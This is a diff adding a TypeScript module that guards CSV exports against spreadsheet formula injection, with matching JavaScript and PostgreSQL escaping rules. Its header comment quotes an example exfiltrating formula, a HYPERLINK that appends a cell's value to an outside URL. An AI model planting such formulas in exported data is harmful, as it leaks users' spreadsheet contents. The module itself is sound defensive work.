@@ -1,0 +1,42 @@
+/**
+ * CSV formula injection (OWASP "CSV Injection"): a spreadsheet opening a CSV runs a cell that begins
+ * with `=`, `+`, `-` or `@` as a formula (`=HYPERLINK("http://…?x="&A1,"open")`), and one that begins
+ * with a tab or carriage return once it strips them. Every text cell Vigil writes to a CSV goes
+ * through this rule: such a cell gets a leading single quote, which spreadsheets read as "this is
+ * text" (and do not show), so the value stays readable. Leading whitespace does not hide the
+ * character (` =1+1` is quoted too). Numeric columns are left as they are (a number is not a formula).
+ *
+ * The rule exists twice, once for JavaScript and once as SQL for PostgreSQL's `COPY … TO STDOUT`,
+ * written from the same pattern so both paths give identical bytes (test/csv-injection.test.ts).
+ */
+
+/** Whitespace a spreadsheet may skip before the first character (ASCII whitespace and NBSP). */
+const SPACE = '[\\t\\n\\v\\f\\r \\u00a0]';
+/** A cell start that is read as a formula (the pattern's source, shared by the JS and SQL forms). */
+const FORMULA_START = `${SPACE}*[=+@-]|[\\t\\r]`;
+
+const CELL = new RegExp(`^(?:${FORMULA_START})`);
+const LIST_ITEMS = new RegExp(`(^|;)(${FORMULA_START})`, 'g');
+
+/** One text cell, made safe: a leading `'` when it would start a formula. */
+export function spreadsheetCell(value: string): string {
+  return CELL.test(value) ? `'${value}` : value;
+}
+
+/**
+ * A list cell (items joined with `;`): the rule applied at the start of every item, since a
+ * spreadsheet whose list separator is `;` (many locales) splits the cell there.
+ */
+export function spreadsheetList(items: readonly string[]): string {
+  return items.join(';').replace(LIST_ITEMS, "$1'$2");
+}
+
+/** `spreadsheetCell` as a SQL expression over a text expression (NULL stays NULL). */
+export function spreadsheetCellSql(expression: string): string {
+  return `regexp_replace(${expression}, '^(${FORMULA_START})', '''\\1')`;
+}
+
+/** `spreadsheetList` as a SQL expression over a text expression already joined with `;`. */
+export function spreadsheetListSql(joined: string): string {
+  return `regexp_replace(${joined}, '(^|;)(${FORMULA_START})', '\\1''\\2', 'g')`;
+}
